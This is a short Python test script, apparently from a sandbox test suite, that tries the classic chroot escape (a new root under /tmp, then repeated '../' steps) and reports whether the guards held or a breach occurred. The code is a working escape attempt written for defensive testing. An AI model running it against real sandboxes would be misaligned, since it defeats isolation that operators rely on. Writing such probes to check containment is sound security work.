# attack: the old way out of a root: another root below the working folder, then up and up
# guards: seccomp/mounts
# expect: SV syscall:chroot
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
chroot = {"x86_64": 161, "aarch64": 51}[os.uname().machine]
before = set(os.listdir("/"))
os.mkdir("/tmp/below")
result = libc.syscall(chroot, b"/tmp/below")
os.chdir("../" * 16)
found = sorted(set(os.listdir(".")) - before)
print(f"BREACH chroot returned {result}, found {found}" if found else f"held: chroot returned {result}")
